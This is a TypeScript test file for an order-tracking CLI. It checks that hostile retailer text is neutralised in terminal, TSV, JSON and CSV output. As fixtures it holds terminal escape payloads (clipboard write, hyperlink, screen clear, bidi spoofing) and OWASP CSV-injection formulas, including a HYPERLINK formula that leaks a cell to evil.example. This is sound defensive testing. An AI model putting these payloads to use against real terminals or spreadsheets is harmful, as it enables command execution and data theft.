/**
 * Hostile tests H40–H44: provider text that attacks the person's terminal or spreadsheet
 * (SECURITY.md rule 30, issue 9 items 13 and 14). A real SQLite store is seeded with hostile
 * orders, items, an account label and audit details, exactly as a sync page writes them
 * (OrderWriter.commitPage); then the real binary renders them — on a pseudo-terminal (util-linux
 * `script`) for the human renderings, piped for TSV, and as JSON, NDJSON and CSV.
 */
import { spawn } from 'node:child_process';
import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { NormalizedOrder } from '../src/connectors/types.js';
import { csvEscape } from '../src/ui/render.js';
import { fitLabel } from '../src/ui/chart.js';
import { captureIO } from '../src/ui/io.js';
import { displayWidth, graphemes, safeJson, safeLine, safeText, truncateCells } from '../src/ui/safe-text.js';
import { BIN, childEnv, runCli } from './helpers/cli.js';
import { tempHome, testContext } from './helpers/context.js';

const OSC52 = '\x1b]52;c;Y2FsYy5leGU=\x07'; // writes "calc.exe" to the clipboard
const OSC8 = '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\'; // a hyperlink
const CSI = '\x1b[2J\x1b[H\x1b[31m'; // clear screen, cursor home, red
const C1 = '\u009b2J\u009d52;c;QUJD\u009c'; // the same, 8-bit
const CR = 'Refund pending\rPaid in full  '; // overwrites its own line
const BIDI = 'invoice\u202egpj.exe\u202c \u2066x\u2069';
const HOSTILE = [OSC52, OSC8, CSI, C1, CR, BIDI, 'bell\x07 del\x7f nul\x00 tab\tnl\n'].join(' | ');

/** Anything a terminal could act on, other than the line ends of a pty ("\r\n"). */
const DANGEROUS = /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;
const describeDanger = (s: string) => JSON.stringify(s.match(new RegExp(DANGEROUS.source, 'g'))?.slice(0, 5));

type Item = NormalizedOrder['items'][number];
const NOW = new Date('2026-05-01T12:00:00.000Z');
const order = (orderId: string, retailer: string, total: number, items: Item[], date = '2026-04-20T08:00:00.000Z'): NormalizedOrder => ({
  orderId, retailer, orderDate: date, status: 'delivered', currency: 'USD', subtotal: total, tax: 0, shipping: 0, discount: 0, total, refunded: 0, providerUpdatedAt: null, items,
});

/** OWASP CSV-injection payloads (plus the negative-number trick of issue 9 item 14). */
const OWASP = [
  `=cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example?leak="&A1,"Error: click for details")`,
  `\t=1+1`,
  `\r=1+1`,
  ` =1+1`,
  `"=1+1`,
  `'=1+1`,
  `＝1+1`,
  `=10+20+cmd|' /C calc'!A0\x00`,
];

let home: string;
let env: NodeJS.ProcessEnv;
beforeAll(() => {
  home = tempHome('orderlink-h40-');
  const t = testContext({ home, now: () => NOW });
  const store = t.ctx.store();
  const conn = store.connections.insert({ connector: 'sandbox', retailer: '*', alias: 'evil', providerType: 'direct', tokenRef: 'ref-evil', scopes: 'orders:read', accountLabel: `Mallory ${HOSTILE}`, baseUrl: null }, NOW);
  const w = store.orderWriter();
  const orders = [
    order(`ORD-1${OSC52}`, `Shop ${HOSTILE}`, 1299, [{ lineNo: 1, name: `Beans ${HOSTILE}`, sku: `SKU${CSI}`, unitPrice: 1299, quantity: 1, category: `Cat ${BIDI}` }]),
    // A label long enough to be cut by the chart, with a sequence right at the cut.
    order('ORD-2', `${'A'.repeat(20)}${OSC52}BBBBBBBBBB`, 500, [], '2026-03-10T08:00:00.000Z'),
    ...OWASP.map((p, i) => order(`CSV-${i}`, p, 100 + i, [], '2026-02-01T08:00:00.000Z')),
  ];
  w.commitPage({ connectionId: conn.id, orders, tombstones: [], cursor: null, runRowId: null, fetched: orders.length, errors: 0, now: NOW.toISOString() });
  t.ctx.audit('link.success', conn.id, { account: `Mallory ${HOSTILE}` });
  t.ctx.close();
  env = childEnv({ ORDERLINK_VAULT_KEY: Buffer.alloc(32, 7).toString('base64') });
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

/** The binary on a pseudo-terminal: stdout and stderr are a TTY, so tables and charts render. */
function onTty(args: string[]): Promise<{ code: number | null; out: string }> {
  const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
  const cmd = [process.execPath, BIN, '--home', home, ...args].map(q).join(' ');
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qec', cmd, '/dev/null'], { env: { ...env, TERM: 'xterm-256color' }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, out }));
  });
}

describe('H40 — a terminal shows provider text, never acts on it', () => {
  it('safeText removes whole escape sequences, controls and bidi overrides', () => {
    expect(safeText(`a${OSC52}b`)).toBe('ab');
    expect(safeText(`a${OSC8}b`)).toBe('aclick meb');
    expect(safeText(`a${CSI}b`)).toBe('ab');
    expect(safeText(`a${C1}b`)).toBe('ab');
    expect(safeText(CR)).toBe('Refund pending Paid in full  ');
    expect(safeText(BIDI)).toBe('invoicegpj.exe x');
    expect(safeText('a\x07b\x7fc\x00d\u0085e')).toBe('a\ufffdb\ufffdc\ufffdd\ufffde');
    expect(safeText('an unterminated \x1b]52;c;AAAA')).toBe('an unterminated ');
    expect(safeText('Crème brûlée 東京 👨‍👩‍👧')).toBe('Crème brûlée 東京 👨‍👩‍👧');
    expect(safeText(HOSTILE)).not.toMatch(DANGEROUS);
  });

  it('truncation happens after sanitising and never splits a sequence or a grapheme', () => {
    const label = fitLabel(`${'A'.repeat(20)}${OSC52}BBBBBBBBBB`, 24);
    expect(label).toBe(`${'A'.repeat(20)}BBB…`);
    const family = fitLabel(`${'x'.repeat(21)}👨‍👩‍👧 tail`, 24);
    expect(graphemes(family).slice(-2)[0]).not.toMatch(/\u200d$/);
    expect(displayWidth(family)).toBe(24);
    expect(truncateCells('e\u0301e\u0301e\u0301e\u0301', 3)).toBe('e\u0301e\u0301…');
  });

  it('every stderr line goes through the net: our colours stay, everything else is neutralised', () => {
    const io = captureIO();
    io.err(`\x1b[32m✓\x1b[39m Linked sandbox:work (${HOSTILE}) as connection 3.`);
    expect(io.stderrText()).toContain('\x1b[32m✓\x1b[39m Linked sandbox:work (');
    expect(io.stderrText().replace(/\x1b\[[0-9;]*m/g, '').trimEnd()).not.toMatch(DANGEROUS);
    expect(safeLine('x\x1b]52;c;\x1b[0mQUFB\x07')).toBe('x\x1b[0mQUFB\ufffd');
  });

  const views: Array<[string, string[]]> = [
    ['the orders table', ['orders']],
    ['orders show', ['orders', 'show', 'sandbox:evil:ORD-1' + OSC52]],
    ['the chart by retailer', ['orders', 'stats', '--by', 'retailer']],
    ['the chart by category', ['orders', 'stats', '--by', 'category']],
    ['connections', ['connections']],
    ['audit', ['audit']],
  ];
  for (const [name, args] of views) {
    it(`through the binary on a terminal: ${name}`, async () => {
      const r = await onTty(args);
      expect(r.code, r.out).toBe(0);
      const text = r.out.replace(/\x1b\[[0-9;]*m/g, ''); // our colours (NO_COLOR is off on a tty)
      expect(text, describeDanger(text)).not.toMatch(DANGEROUS);
      expect(text).not.toContain('\x1b');
      expect(text).toMatch(/Shop|Mallory|link\.success|ORD-1|Cat invoice/);
    });
  }

  it('an error message quoting provider text is neutralised too (stderr)', async () => {
    const r = await runCli(['--home', home, 'orders', 'show', `nope${OSC52}${CR}${BIDI}`], { env });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/no order "nope/);
    expect(r.stderr, describeDanger(r.stderr)).not.toMatch(DANGEROUS);
  });
});

describe('H41 — piped text and JSON carry no raw controls', () => {
  it('TSV (piped) has tabs between cells and newlines between rows, nothing else', async () => {
    for (const args of [['orders'], ['orders', 'show', 'ORD-1' + OSC52], ['orders', 'stats', '--by', 'category'], ['connections'], ['audit']]) {
      const r = await runCli(['--home', home, ...args], { env });
      expect(r.code, args.join(' ')).toBe(0);
      expect(r.stdout.replace(/[\t\n]/g, ''), `${args.join(' ')}: ${describeDanger(r.stdout)}`).not.toMatch(DANGEROUS);
      // `orders show` piped: a heading and key/value lines, then one TSV line per item.
      const lines = r.stdout.trim().split('\n');
      for (const line of args[1] === 'show' ? lines.slice(-1) : lines) expect(line.split('\t').length, line).toBeGreaterThan(1);
    }
  });

  it('JSON and NDJSON escape DEL, C1 and bidi characters, and keep the data exact', async () => {
    const list = await runCli(['--home', home, '--json', 'orders'], { env });
    expect(list.stdout).not.toMatch(DANGEROUS);
    expect(list.stdout).toContain('\\u202e');
    const rows = JSON.parse(list.stdout) as Array<{ retailer: string; order_id: string }>;
    expect(rows.find((o) => o.order_id === `ORD-1${OSC52}`)?.retailer).toBe(`Shop ${HOSTILE}`);
    for (const args of [['orders', '--ndjson'], ['--json', 'orders', 'show', 'ORD-2'], ['--json', 'connections'], ['--json', 'audit'], ['--json', 'orders', 'stats', '--by', 'retailer']]) {
      const r = await runCli(['--home', home, ...args], { env });
      expect(r.code, args.join(' ')).toBe(0);
      expect(r.stdout, args.join(' ')).not.toMatch(DANGEROUS);
    }
    const conns = JSON.parse((await runCli(['--home', home, '--json', 'connections'], { env })).stdout) as Array<{ account_label: string }>;
    expect(conns[0]!.account_label).toBe(`Mallory ${HOSTILE}`);
    expect(safeJson({ s: '\u0085\u2028\u202e\x7f' })).toBe('{"s":"\\u0085\\u2028\\u202e\\u007f"}');
  });
});

/** A small RFC 4180 reader for the test: rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += ch;
  }
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

describe('H42 — CSV cells cannot become spreadsheet formulas (OWASP CSV injection)', () => {
  it('csvEscape prefixes every formula-like cell, keeps plain numbers, strips NUL', () => {
    for (const p of OWASP) {
      const cell = parseCsv(csvEscape(p) + '\r\n')[0]![0]!;
      expect(cell.startsWith("'"), JSON.stringify(p)).toBe(true);
      expect(cell).not.toContain('\x00');
    }
    for (const n of ['-4.37', '1200', '0', '12.345', '-1']) expect(csvEscape(n)).toBe(n);
    for (const notNumber of ['-1e5', '-0x10', '+1', '-1,5', '-1 ']) expect(csvEscape(notNumber).replace(/^"/, '')).toMatch(/^'/);
    expect(csvEscape('Scarf, "wool"')).toBe('"Scarf, ""wool"""');
  });

  it('through the binary: every OWASP payload in orders --csv is neutralised, amounts stay numbers', async () => {
    const r = await runCli(['--home', home, 'orders', '--csv'], { env });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('\x00');
    const [header, ...rows] = parseCsv(r.stdout);
    const col = (name: string) => header!.indexOf(name);
    for (const row of rows.filter((x) => x[col('order_id')]!.startsWith('CSV-'))) {
      expect(row[col('retailer')]!.startsWith("'"), row[col('retailer')]).toBe(true);
      expect(row[col('total')]).toMatch(/^-?\d+\.\d\d$/);
    }
    expect(rows).toHaveLength(OWASP.length + 2);
  });
});
